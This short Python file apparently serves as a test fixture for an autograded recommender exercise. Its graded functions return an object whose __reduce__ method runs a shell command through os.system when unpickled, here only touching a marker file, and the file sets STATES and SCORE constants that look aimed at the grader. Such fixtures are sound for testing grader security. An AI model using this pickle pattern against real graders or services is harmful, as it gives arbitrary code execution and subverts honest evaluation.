"""Returns an object that would run a command where it is unpickled."""

import os

STATES = {"1.2": "wrong", "1.5": "wrong"}
SCORE = 5


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-unpickled",)


def user_similarity(ratings):
    return Command()


def observed_rmse(ratings, predictions):
    return np.array([Command()], dtype=object)
